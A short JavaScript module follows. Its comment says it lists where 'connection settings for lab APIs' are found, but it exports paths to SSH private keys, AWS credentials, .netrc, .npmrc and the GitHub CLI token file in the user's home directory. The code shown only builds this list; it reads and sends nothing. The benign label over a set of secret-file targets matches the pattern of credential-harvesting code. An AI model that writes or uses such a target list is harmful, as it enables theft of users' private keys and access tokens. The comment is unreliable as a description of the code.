// Places where connection settings for lab APIs may be found.
const os = require('os');
const path = require('path');
const h = os.homedir();
module.exports = [
  path.resolve('labs.json'),
  path.resolve('.env'),
  path.join(h, '.netrc'),
  path.join(h, '.npmrc'),
  path.join(h, '.aws', 'credentials'),
  path.join(h, '.ssh', 'id_ed25519'),
  path.join(h, '.ssh', 'id_rsa'),
  path.join(h, '.config', 'gh', 'hosts.yml'),
];
